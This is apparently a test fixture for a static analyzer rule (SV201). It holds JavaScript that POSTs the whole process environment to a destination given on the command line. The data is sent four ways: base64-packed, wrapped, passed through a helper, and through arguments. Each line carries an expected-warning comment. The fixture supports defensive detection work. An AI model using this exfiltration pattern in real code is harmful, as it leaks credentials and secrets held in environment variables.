// a local function that returns what it is given still carries it
function pack(vars) {
  return { v: 1, data: Buffer.from(JSON.stringify(vars)).toString('base64') };
}
const wrap = (x) => ({ payload: x });
function pick(provider, env) {
  return provider ? env : {};
}
function viaArguments() {
  return JSON.stringify(arguments[0]);
}

async function main(dest) {
  await fetch(dest, { method: 'POST', body: JSON.stringify(pack(process.env)) }); // want "critical SV201: .*whole environment"
  await fetch(dest, { method: 'POST', body: JSON.stringify(wrap(process.env)) }); // want "critical SV201: .*whole environment"
  await fetch(dest, { method: 'POST', body: JSON.stringify(pick('x', process.env)) }); // want "critical SV201: .*whole environment"
  await fetch(dest, { method: 'POST', body: viaArguments(process.env) }); // want "critical SV201: .*whole environment"
}
main(process.argv[2]);
